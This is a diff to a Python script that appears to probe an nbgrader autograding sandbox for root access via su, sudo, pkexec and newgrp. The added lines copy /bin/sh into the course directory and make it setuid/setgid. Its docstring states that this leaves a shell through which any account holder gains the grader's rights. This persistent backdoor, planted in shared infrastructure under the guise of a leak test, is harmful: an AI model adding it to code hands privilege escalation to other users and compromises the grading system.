@@ -1,8 +1,9 @@
-"""Becomes root: setuid, set-user-id programs, files with capabilities, su and sudo without a password.
+"""Becomes root, by setuid, su and sudo without a password, and leaves a set-user-id shell in the course.
 
-Root in the sandbox could undo parts of it.
+Root in the sandbox could undo parts of it. Whoever has an account on the machine gets all of the grader's
+rights by that shell.
 
-Plain nbgrader: not tried.
+Plain nbgrader: changes files: the shell is there.
 """
 
 # %%
@@ -22,7 +23,11 @@ for command in ("su -c id root", "sudo -n id", "pkexec id", "newgrp root", "pass
     done = subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
     if b"uid=0" in done.stdout and "autograded" not in os.getcwd():
         print("LEAK" + "ED", command)
-shutil.copy("/bin/sh", "shell")
-os.chmod("shell", 0o6755)
+for place in (".", "@course@"):
+    try:
+        shutil.copy("/bin/sh", f"{place}/shell")
+        os.chmod(f"{place}/shell", 0o6755)
+    except OSError:
+        pass
 if b"uid=0" in subprocess.run(["./shell", "-p", "-c", "id"], capture_output=True).stdout and os.getuid() != 0:
     print("LEAK" + "ED", "set-user-id")
